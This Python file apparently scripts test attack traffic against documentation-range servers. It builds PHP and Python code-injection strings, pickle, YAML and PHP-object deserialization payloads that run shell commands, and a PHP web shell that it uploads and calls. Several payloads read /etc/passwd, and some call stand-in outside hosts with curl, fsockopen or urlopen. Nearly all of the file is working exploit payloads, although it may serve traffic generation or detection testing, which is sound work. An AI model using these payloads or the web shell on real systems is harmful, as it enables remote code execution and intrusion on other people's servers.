# SPDX-License-Identifier: GPL-2.0-or-later
"""Code of PHP and Python in calculators, objects in cookies and YAML, uploads that are called later."""
import base64
from lib.steps import body, cookie, form, get, q, upload, values

OUT = '198.51.100.140'
PHP = ['phpinfo()', "system('id')", 'md5(4177)', '1337*31', "print('kontor'.'7')", "file_get_contents('/etc/passwd')", "strrev('gnutiehrev')", 'sleep(2)', "shell_exec('uname -a')", '`whoami`', 'exit(7*191)', 'PHP_VERSION', '1;}', "eval('return 5003*3;')", "base64_decode('a29udG9y').PHP_OS", "file_get_contents('http://192.0.2.99/p')",
       "array_sum(range(1,400))", 'undefined_function_x()', "call_user_func('passthru','hostname')", "1);system('ls /')", "fsockopen('198.51.100.140',9090)", "chr(107).chr(116).str_repeat('z',4)", 'implode(",",array_map(fn($x)=>$x*7,[11,12,13]))', "file_put_contents('/tmp/p','x')", 'print_r(get_loaded_extensions())', "hex2bin('6b6f')", '2+3', 'rand(1,6)']
PYTHON = ['7*191', "__import__('os').popen('id').read()", "open('/etc/passwd').read()", "''.join(chr(c) for c in (104,101,114,98))", "__import__('time').sleep(2)", "[x for x in ().__class__.__base__.__subclasses__()][:2]", '1/0', 'import os', "__import__('subprocess').check_output(['uname','-a'])", "globals()", "exec('print(4177*3)')", "__import__('socket').gethostname()",
          "__import__('urllib.request').request.urlopen('http://192.0.2.99/y').read()", "__import__('os').system('touch /tmp/y')", "'alpes'.upper()", 'print(919*11)', "sum(range(400))", "inconnu", "__import__('hashlib').md5(b'konseki').hexdigest()", "dir()", "__import__('os').getcwd()", "(lambda: 40961*2)()", "__import__('base64').b64decode('ZWRlbHdlaXNz')"]


def pickled(call, argument):
    return base64.urlsafe_b64encode(f"c{call[0]}\n{call[1]}\n(S'{argument}'\ntR.".encode()).decode().rstrip('=')


PICKLES = [pickled(('os', 'system'), 'id'), pickled(('os', 'system'), 'sleep 2'), pickled(('subprocess', 'check_output'), 'whoami'), pickled(('subprocess', 'getoutput'), 'cat /etc/passwd'), pickled(('builtins', 'eval'), '1337*31'), pickled(('os', 'system'), f'curl -s http://{OUT}:9090/pk'),
           pickled(('subprocess', 'getoutput'), 'uname -a'), base64.urlsafe_b64encode(b"(lp0\nS'arnica'\np1\na.").decode().rstrip('='), 'bm9uc2Vucw', pickled(('time', 'sleep'), '2'), pickled(('os', 'system'), 'getent hosts p6.drop.example'), pickled(('builtins', 'exec'), 'import time;time.sleep(2)'), pickled(('glob', 'glob'), '/etc/pass*')]
YAML = ['!!python/object/apply:os.system ["id"]', '!!python/object/apply:subprocess.check_output [["uname","-a"]]', '!!python/object/apply:time.sleep [2]', '!!python/object/new:subprocess.getoutput ["cat /etc/passwd"]', 'langue: fr\nthème: clair', '!!python/name:os.system', '!!python/object/apply:os.nichtda ["x"]', '!!python/object/apply:builtins.eval ["4177*3"]',
        f'- !!python/object/apply:os.system ["curl -s http://{OUT}:9090/ya"]', 'a: !!python/tuple [1, 2]', 'x: [1', "!!python/object/apply:os.popen ['id']"]


def zettel(command):
    return f'O:10:"Merkzettel":3:{{s:7:"artikel";a:0:{{}}s:9:"protokoll";N;s:8:"nachlauf";s:{len(command)}:"{command}";}}'


OBJECTS = [zettel(c) for c in ('id', 'uname -a', 'sleep 2', 'touch /tmp/z', f'curl -s http://{OUT}:9090/un', 'echo $((4177*7))')] + ['a:1:{i:0;s:4:"Bohr";}', 'O:8:"Unbekant":0:{}', 'O:10:"Merkzettel":1:{s:8:"nachlauf";N;}', 's:5:"x', 'O:11:"ArrayObject":4:{i:0;i:0;i:1;a:0:{}i:2;a:0:{}i:3;N;}']
SHELL = "<?php echo '['.(61*67).']'; system($_REQUEST['k'] ?? 'id'); ?>"


def spaced(steps):
    for step in steps:
        text = step['target'] + str(step.get('body')) + str(step.get('headers'))
        yield dict(step, pause=1.6 if any(w in text for w in ('192.0.2', '198.51', 'drop.example')) or 'cookie' in text.lower() else 0.05)


SCENARIO = [
    ([('203.0.113.31', 80), ('203.0.113.32', 80), ('203.0.113.33', 80)], [
        get('/rechner?formel=3*24.50'), *spaced(values('/rechner', 'formel', 'phpi', *PHP, keep=True, gzip=True)), *spaced(form('/rechner', {'formel': p}, 'phpi') for p in PHP[::4]),
        *spaced(cookie('/merkzettel', 'zettel=' + q(base64.b64encode(o.encode()).decode()), 'deserialization') for o in OBJECTS), cookie('/merkzettel', 'zettel=YTowOnt9'),
        upload('/profilbild', 'bild', 'ich.php', SHELL), get('/ablage/ich.php', 'upload'), get('/ablage/ich.php?k=uname%20-a', 'upload'), form('/ablage/ich.php', {'k': 'cat /etc/passwd'}, 'upload'), get('/ablage/ich.php?k=true', 'upload'),
        upload('/profilbild', 'bild', 'foto.jpg', 'JFIF ' + SHELL), get('/ablage/foto.jpg?k=id', 'upload'), upload('/profilbild', 'bild', 'b.phtml', "GIF89a<?php eval(base64_decode($_POST['z']));"), form('/ablage/b.phtml', {'z': 'ZWNobyA5MTkqMTE7'}, 'upload'),
        form('/ablage/b.phtml', {'z': base64.b64encode(b"system('id;hostname');").decode()}, 'upload'), upload('/profilbild', 'bild', '../x.php', SHELL), get('/x.php?k=id', 'upload'), upload('/profilbild', 'bild', 's.php', '<?php sleep(2);'), get('/ablage/s.php', 'upload'), get('/ablage/fehlt.php?k=id', 'upload'),
        upload('/profilbild', 'bild', 'urlaub.png', 'PNG nur ein bild', 'benign')]),
    ([('203.0.113.51', 8000), ('203.0.113.52', 8000), ('203.0.113.53', 8000)], [
        get('/calcul?expression=2*21'), *spaced(values('/calcul', 'expression', 'pyi', *PYTHON)), *spaced(cookie('/panier', 'panier=' + p, 'deserialization') for p in PICKLES), *spaced(body('/reglages', y, 'application/yaml', 'deserialization') for y in YAML),
        upload('/photos', 'photo', 'fleur.png', 'PNG', 'benign'), upload('/photos', 'photo', '../../../tmp/evasion.txt', 'x'), upload('/photos', 'photo', 'p.html', '<script>alert(1)</script>'), get('/depots/p.html', 'upload')])]
